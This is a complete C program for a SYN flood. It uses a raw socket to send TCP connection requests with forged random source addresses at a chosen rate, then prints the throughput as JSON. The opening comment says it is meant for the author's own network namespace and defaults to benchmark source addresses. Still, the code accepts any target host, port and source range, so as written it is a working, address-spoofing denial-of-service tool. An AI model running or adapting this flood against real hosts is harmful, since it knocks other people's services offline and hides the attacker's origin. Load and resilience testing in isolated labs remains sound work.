// A SYN flood: connection requests from forged addresses, at a steady rate, by a raw socket. For a network namespace of one's own.
//
// usage: synflood ADDRESS PORT RATE SECONDS [SOURCE/PREFIX]
//
// RATE is packets a second; 0: as many as go. Sources are drawn from SOURCE/PREFIX, 198.18.0.0/15 when left out (the addresses of RFC 2544,
// which are nobody's). Prints a JSON line: packets offered, those that the kernel refused, seconds, and the rate that came of it.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

enum { BATCH = 64, OPTIONS = 20, SLOT_NANOSECONDS = 500000 };

// What a Linux client asks for: MSS 1460, SACK, timestamps, window scale 7. The timestamp lies behind the first 8 bytes.
static const uint8_t options[OPTIONS] = {2, 4, 5, 180, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7};

struct syn {
  struct iphdr ip;
  struct tcphdr tcp;
  uint8_t options[OPTIONS];
} __attribute__((packed));

static struct syn packets[BATCH];
static struct iovec vectors[BATCH];
static struct mmsghdr messages[BATCH];
static volatile sig_atomic_t is_over;
static uint64_t state = 88172645463325252ull;

static void end(int signal) {
  (void)signal;
  is_over = 1;
}

static void die(const char *what) {
  fprintf(stderr, "synflood: %s: %s\n", what, strerror(errno));
  exit(1);
}

// xorshift64
static uint64_t draw(void) {
  state ^= state << 13;
  state ^= state >> 7;
  state ^= state << 17;
  return state;
}

static uint64_t nanoseconds(void) {
  struct timespec now;
  clock_gettime(CLOCK_MONOTONIC, &now);
  return (uint64_t)now.tv_sec * 1000000000ull + (uint64_t)now.tv_nsec;
}

static uint32_t sum(const void *bytes, size_t length) {
  const uint16_t *words = bytes;
  uint32_t total = 0;
  for (size_t i = 0; i < length / 2; i++) total += words[i];
  return total;
}

static uint16_t folded(uint32_t total) {
  total = (total & 0xffff) + (total >> 16);
  return (uint16_t)~(total + (total >> 16));
}

static void prepare(struct sockaddr_in *target) {
  for (int i = 0; i < BATCH; i++) {
    struct syn *syn = &packets[i];
    syn->ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_TCP};
    syn->ip.tot_len = htons(sizeof *syn);
    syn->ip.daddr = target->sin_addr.s_addr;
    syn->tcp.dest = target->sin_port;
    syn->tcp.doff = (sizeof syn->tcp + OPTIONS) / 4;
    syn->tcp.syn = 1;
    syn->tcp.window = htons(64240);
    memcpy(syn->options, options, OPTIONS);
    vectors[i] = (struct iovec){.iov_base = syn, .iov_len = sizeof *syn};
    messages[i].msg_hdr = (struct msghdr){
        .msg_name = target, .msg_namelen = sizeof *target, .msg_iov = &vectors[i], .msg_iovlen = 1};
  }
}

// Another stranger. The kernel fills in the checksum of the IP header.
static void forge(struct syn *syn, uint32_t network, uint32_t hosts) {
  uint64_t random = draw();
  uint32_t clock = (uint32_t)draw();
  syn->ip.saddr = htonl(network | ((uint32_t)random & hosts));
  syn->tcp.source = htons((uint16_t)(1024 + (random >> 32) % 64512));
  syn->tcp.seq = (uint32_t)draw();
  memcpy(syn->options + 8, &clock, sizeof clock);
  syn->tcp.check = 0;
  uint32_t total = sum(&syn->ip.saddr, 8) + htons(IPPROTO_TCP) + htons(sizeof syn->tcp + OPTIONS);
  syn->tcp.check = folded(total + sum(&syn->tcp, sizeof syn->tcp + OPTIONS));
}

// Sends `count` packets, at most a batch. Returns how many the kernel took.
static int burst(int raw, int count, uint32_t network, uint32_t hosts) {
  for (int i = 0; i < count; i++) forge(&packets[i], network, hosts);
  int taken = sendmmsg(raw, messages, (unsigned)count, 0);
  if (taken >= 0) return taken;
  if (errno != ENOBUFS && errno != EAGAIN && errno != EINTR) die("sendmmsg");
  return 0;
}

// How many packets are due by now; without a rate always a batch.
static uint64_t due_after(uint64_t elapsed, uint64_t rate, uint64_t tried) {
  return rate == 0 ? tried + BATCH : (uint64_t)((double)elapsed * (double)rate / 1e9);
}

int main(int argc, char **argv) {
  if (argc < 5) {
    fprintf(stderr, "usage: synflood ADDRESS PORT RATE SECONDS [SOURCE/PREFIX]\n");
    return 2;
  }
  struct sockaddr_in target = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[2]))};
  if (inet_pton(AF_INET, argv[1], &target.sin_addr) != 1) die(argv[1]);
  const uint64_t rate = strtoull(argv[3], NULL, 10);
  const uint64_t length = (uint64_t)(atof(argv[4]) * 1e9);
  char source[32] = "198.18.0.0/15";
  if (argc > 5) snprintf(source, sizeof source, "%s", argv[5]);
  char *slash = strchr(source, '/');
  const int prefix = slash == NULL ? 32 : atoi(slash + 1);
  if (slash != NULL) *slash = 0;
  struct in_addr from;
  if (inet_pton(AF_INET, source, &from) != 1 || prefix < 1 || prefix > 32) die(source);
  const uint32_t hosts = prefix == 32 ? 0 : 0xffffffffu >> prefix;
  const uint32_t network = ntohl(from.s_addr) & ~hosts;

  const int raw = socket(AF_INET, SOCK_RAW, IPPROTO_RAW); // IPPROTO_RAW: we write the IP header
  if (raw < 0) die("socket");
  signal(SIGINT, end);
  signal(SIGTERM, end);
  prepare(&target);

  uint64_t sent = 0, tried = 0;
  const uint64_t began = nanoseconds();
  uint64_t now = began;
  while (!is_over && now - began < length) {
    const uint64_t due = due_after(now - began, rate, tried);
    while (tried < due && !is_over) {
      const int count = due - tried < BATCH ? (int)(due - tried) : BATCH;
      sent += (uint64_t)burst(raw, count, network, hosts);
      tried += (uint64_t)count;
      if (nanoseconds() - began >= length) break;
    }
    if (rate != 0) {
      const struct timespec slot = {.tv_nsec = SLOT_NANOSECONDS};
      nanosleep(&slot, NULL);
    }
    now = nanoseconds();
  }
  const double seconds = (double)(nanoseconds() - began) / 1e9;
  printf("{\"offered\":%llu,\"refused\":%llu,\"seconds\":%.3f,\"rate\":%.0f}\n", (unsigned long long)sent,
         (unsigned long long)(tried - sent), seconds, (double)sent / seconds);
  return 0;
}
